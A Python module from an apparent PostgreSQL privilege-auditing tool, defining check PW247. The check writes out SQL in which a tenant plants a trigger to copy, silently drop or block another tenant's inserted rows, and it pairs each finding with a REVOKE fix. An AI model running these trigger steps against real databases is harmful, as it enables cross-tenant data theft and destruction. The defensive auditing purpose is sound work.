"""PW247: TRIGGER lets A run code on every row that B writes."""

from __future__ import annotations

from typing import TYPE_CHECKING

from partywall.survey import sql
from partywall.survey.attack import Attempt, Breach, Step, attack
from partywall.survey.capability import BUILT, gentle, temporary, victims, workshop
from partywall.survey.mending.privileges import revoked
from partywall.survey.surfaces import insertable, reachable

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

    from partywall.catalog.facts import Relation
    from partywall.survey.attack import Effect, Judgement, Outcome, Scene
    from partywall.survey.world import Row


@attack("PW247", effect="read", level="sql")
def plant_trigger(scene: Scene) -> Iterator[Attempt]:
    """Create a trigger on a table of all tenants; it fires when B inserts, with B's row.

    With a schema to create in, a definer function of A's copies the row to a table of A's.
    With temporary objects only, the function changes or drops the row. Without either, a built-in
    trigger function makes B's inserts fail. On a target in use the server is asked for the
    privilege instead, since CREATE TRIGGER locks the table.

    Affected:
        Databases where GRANT ALL was said of tables.

    Breaches:
        GRANT TRIGGER ON shop.invoices TO app;

    Holds:
        REVOKE TRIGGER ON shop.invoices FROM app;

    Fix:
        Take TRIGGER from the login: only who makes tables needs it.

    Source:
        https://www.postgresql.org/docs/current/ddl-priv.html
        https://www.postgresql.org/docs/current/sql-createtrigger.html
    """
    for relation, _ in victims(scene):
        spare = scene.world.spare.get((relation.qualified, "B"))
        if spare is None or not reachable(scene, "A", relation, "TRIGGER"):
            continue
        if not reachable(scene, "B", relation, "INSERT"):
            continue
        if gentle(scene):
            yield _asked(scene, relation)
        else:
            yield _attempt(scene, relation, spare)


def _effect(scene: Scene) -> Effect:
    if workshop(scene):
        return "read"
    return "write" if temporary(scene) else "disrupt"


def _asked(scene: Scene, relation: Relation) -> Attempt:
    question = f"SELECT has_table_privilege({sql.literal(relation.qualified)}, 'TRIGGER')"

    def judge(outcomes: Sequence[Outcome]) -> Judgement:
        if outcomes[0].scalar == "t":
            return Breach(f"the role may put a trigger of its own on {relation.qualified}")
        return None

    return Attempt(
        at=relation.qualified,
        attacker="A",
        steps=(Step("A", question),),
        judge=judge,
        effect=_effect(scene),
        repair=lambda: revoked(scene, ("TRIGGER",), relation),
    )


def _attempt(scene: Scene, relation: Relation, spare: Row) -> Attempt:
    effect = _effect(scene)
    before, function, after = _spy(scene) if effect == "read" else _harm(effect)
    time = "AFTER" if effect == "read" else "BEFORE"
    create = (
        f"CREATE TRIGGER {BUILT} {time} INSERT ON {relation.qualified} "
        f"FOR EACH ROW EXECUTE FUNCTION {function}"
    )
    theirs = Step("B", spare.insert(omit=insertable(scene, relation, "B", spare)))
    steps = (*before, Step("A", create), theirs, *after)
    at = len(before)

    def judge(outcomes: Sequence[Outcome]) -> Judgement:
        if not outcomes[at].ok:
            return None
        because = f"a trigger that A put on {relation.qualified}"
        if effect == "read" and outcomes[-1].shows(scene.world.tokens["B"]):
            return Breach(f"{because} copied what another tenant inserted")
        if effect == "write" and outcomes[at + 1].ok and outcomes[at + 1].count == 0:
            return Breach(f"{because} took away what another tenant inserted")
        if effect == "disrupt" and not outcomes[at + 1].ok:
            return Breach(f"{because} makes the inserts of another tenant fail")
        return None

    return Attempt(
        at=relation.qualified,
        attacker="A",
        steps=steps,
        judge=judge,
        effect=effect,
        control=(theirs,),
        repair=lambda: revoked(scene, ("TRIGGER",), relation),
    )


def _spy(scene: Scene) -> tuple[tuple[Step, ...], str, tuple[Step, ...]]:
    prepare, schema = workshop(scene) or ((), "")
    haul, spy = f"{schema}.{BUILT}", f"{schema}.{BUILT}_spy"
    body = f"BEGIN INSERT INTO {haul} VALUES (NEW::text); RETURN NULL; END"
    steps = (
        *prepare,
        Step("A", f"CREATE TABLE {haul} (line text)"),
        Step(
            "A",
            f"CREATE FUNCTION {spy}() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER "
            f"AS $${body}$$",
        ),
    )
    return steps, f"{spy}()", (Step("A", sql.select(haul, ["line"])),)


def _harm(effect: Effect) -> tuple[tuple[Step, ...], str, tuple[Step, ...]]:
    """A trigger function that drops the row, or a built-in one that fails without arguments."""
    if effect == "disrupt":
        return (), "pg_catalog.tsvector_update_trigger()", ()
    body = "BEGIN RETURN NULL; END"
    create = f"CREATE FUNCTION pg_temp.{BUILT}_spy() RETURNS trigger LANGUAGE plpgsql AS $${body}$$"
    return (Step("A", create),), f"pg_temp.{BUILT}_spy()", ()
